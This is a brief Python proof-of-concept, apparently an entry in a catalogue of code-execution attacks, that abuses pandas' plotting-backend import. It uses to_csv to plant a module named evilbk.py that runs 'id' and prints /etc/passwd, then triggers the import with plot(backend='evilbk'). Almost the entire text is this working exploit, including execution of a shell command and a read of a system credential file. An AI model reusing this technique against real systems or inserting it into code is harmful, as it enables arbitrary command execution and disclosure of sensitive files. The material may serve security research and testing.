# source: pandas PR #26753/#28622 (plotting.backend option and plot(backend=) -> importlib.import_module), https://github.com/pandas-dev/pandas/issues/28619; sys.path[0]='' module shadowing (docs.python.org security_warnings: -P/PYTHONSAFEPATH) + pandas import_optional_dependency
# family: string->import: pandas plotting backend name imported with importlib + planted .py via to_csv
# goal: RCE: id + /etc/passwd
import pandas as pd
code = "import os;print(os.popen('id').read());print(open('/etc/passwd').read());plot=0"
pd.DataFrame({"c": [code]}).to_csv("evilbk.py", index=False, header=False)
pd.DataFrame({"a": [1, 2]}).plot(backend="evilbk")
